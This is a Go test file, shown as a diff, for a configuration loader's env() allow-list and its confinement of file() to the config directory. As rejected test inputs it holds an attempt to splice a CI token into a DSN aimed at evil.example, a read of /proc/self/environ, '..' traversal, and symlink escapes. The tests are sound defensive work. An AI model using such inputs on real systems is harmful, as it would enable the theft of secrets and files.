@@ -1,0 +1,137 @@
+package schema
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+
+	"github.com/tiform/tiform/diag"
+)
+
+// loadText loads one main.hcl (plus extra files) and returns the diagnostics
+// as text.
+func loadText(t *testing.T, src string, extra map[string]string, opts Options) (string, bool) {
+	t.Helper()
+	dir := t.TempDir()
+	writeFile(t, dir, "main.hcl", src)
+	for name, content := range extra {
+		writeFile(t, dir, name, content)
+	}
+	_, diags := Load(dir, opts)
+	var sb strings.Builder
+	_ = diag.Write(&sb, diags, false)
+	return sb.String(), diags.HasErrors()
+}
+
+const ciSecret = "ci-s3cr3t-value-Q7"
+
+// env() reads only what the configuration is allowed to read: names given
+// with AllowEnv anywhere, and a variable that is a cluster's whole DSN, for
+// that DSN only.
+func TestEnvAllowList(t *testing.T) {
+	environ := env(map[string]string{
+		"PROD_DSN": "app:" + ciSecret + "@tcp(10.0.0.1:4000)/", "CI_TOKEN": ciSecret, "REGION": "tokyo",
+	})
+	for _, tc := range []struct {
+		name, src string
+		allow     []string
+		wantErr   string // "" = loads
+	}{
+		{"whole dsn", `cluster "a" { dsn = env("PROD_DSN") }`, nil, ""},
+		{"whole dsn with a default", `cluster "a" { dsn = env("PROD_DSN", "") }`, nil, ""},
+		{"dsn in a conditional branch", "variable \"dev\" { default = false }\ncluster \"a\" { dsn = var.dev ? env(\"DEV_DSN\", \"\") : env(\"PROD_DSN\") }", nil, ""},
+		{"a secret in a setting", `variables { tidb_opt_fix_control = env("CI_TOKEN") }`, nil, `may not read environment variable CI_TOKEN`},
+		{"the dsn variable in a setting", "cluster \"a\" {\n  dsn = env(\"PROD_DSN\")\n  variables { tidb_opt_fix_control = env(\"PROD_DSN\") }\n}", nil, `may not read environment variable PROD_DSN`},
+		{"a secret spliced into a dsn", `cluster "a" { dsn = "app:${env("CI_TOKEN")}@tcp(evil.example:4000)/" }`, nil, `may not read environment variable CI_TOKEN`},
+		{"the dsn variable read twice", `cluster "a" { dsn = env("PROD_DSN") == "" ? "" : env("PROD_DSN") }`, nil, `may not read environment variable PROD_DSN`},
+		{"through a local", "locals { d = env(\"PROD_DSN\") }\ncluster \"a\" { dsn = local.d }", nil, `may not read environment variable PROD_DSN`},
+		{"a default does not help", `variables { x_region = env("REGION", "osaka") }`, nil, `may not read environment variable REGION`},
+		{"a computed name", `variables { x_region = env(upper("region")) }`, nil, `may not read environment variable REGION`},
+		{"allowed with --allow-env", `variables { x_region = env("REGION") }`, []string{"REGION"}, ""},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			out, failed := loadText(t, tc.src, nil, Options{Env: environ, AllowEnv: tc.allow})
+			if tc.wantErr == "" {
+				if failed {
+					t.Fatalf("want success, got:\n%s", out)
+				}
+				return
+			}
+			if !failed || !strings.Contains(out, tc.wantErr) || !strings.Contains(out, "--allow-env") {
+				t.Fatalf("want an error %q with the --allow-env hint, got:\n%s", tc.wantErr, out)
+			}
+			if strings.Contains(out, ciSecret) {
+				t.Errorf("the diagnostic shows the secret:\n%s", out)
+			}
+		})
+	}
+}
+
+// file() reads only regular files inside the configuration directory.
+func TestFileConfinedToTheDirectory(t *testing.T) {
+	outside := t.TempDir()
+	secretFile := filepath.Join(outside, "secret.txt")
+	if err := os.WriteFile(secretFile, []byte(ciSecret), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	for _, tc := range []struct {
+		name, path string
+		setup      func(t *testing.T, dir string)
+		wantErr    string
+	}{
+		{"inside", "rules.txt", nil, ""},
+		{"a subdirectory", "sub/rules.txt", func(t *testing.T, dir string) {
+			os.Mkdir(filepath.Join(dir, "sub"), 0o700)
+			writeFile(t, dir, "sub/rules.txt", "x")
+		}, ""},
+		{"a symlink inside", "link.txt", func(t *testing.T, dir string) {
+			os.Symlink("rules.txt", filepath.Join(dir, "link.txt"))
+		}, ""},
+		{"absolute", secretFile, nil, "an absolute path"},
+		{"/proc/self/environ", "/proc/self/environ", nil, "an absolute path"},
+		{"dot-dot", "../" + filepath.Base(outside) + "/secret.txt", nil, `a path with ".."`},
+		{"dot-dot inside", "sub/../rules.txt", nil, `a path with ".."`},
+		{"a symlink out", "out.txt", func(t *testing.T, dir string) {
+			os.Symlink(secretFile, filepath.Join(dir, "out.txt"))
+		}, "leads out of the configuration directory"},
+		{"a symlinked directory out", "d/secret.txt", func(t *testing.T, dir string) {
+			os.Symlink(outside, filepath.Join(dir, "d"))
+		}, "leads out of the configuration directory"},
+		{"a directory", "sub", func(t *testing.T, dir string) { os.Mkdir(filepath.Join(dir, "sub"), 0o700) }, "not a regular file (a directory)"},
+		{"a FIFO", "fifo", func(t *testing.T, dir string) {
+			if err := syscall.Mkfifo(filepath.Join(dir, "fifo"), 0o600); err != nil {
+				t.Skip("mkfifo:", err)
+			}
+		}, "not a regular file (a named pipe)"},
+		{"too large", "big.txt", func(t *testing.T, dir string) {
+			writeFile(t, dir, "big.txt", strings.Repeat("x", 1<<20+1))
+		}, "more than the limit of 1 MiB"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			dir := t.TempDir()
+			writeFile(t, dir, "rules.txt", "Query_time > 1")
+			if tc.setup != nil {
+				tc.setup(t, dir)
+			}
+			writeFile(t, dir, "main.hcl", "variables {\n  tidb_slow_log_rules = file(\""+tc.path+"\")\n}\n")
+			_, diags := Load(dir, Options{})
+			var sb strings.Builder
+			_ = diag.Write(&sb, diags, false)
+			out := sb.String()
+			if tc.wantErr == "" {
+				if diags.HasErrors() {
+					t.Fatalf("want success, got:\n%s", out)
+				}
+				return
+			}
+			if !diags.HasErrors() || !strings.Contains(out, tc.wantErr) {
+				t.Fatalf("want %q, got:\n%s", tc.wantErr, out)
+			}
+			if strings.Contains(out, ciSecret) {
+				t.Errorf("the diagnostic shows the file's content:\n%s", out)
+			}
+		})
+	}
+}
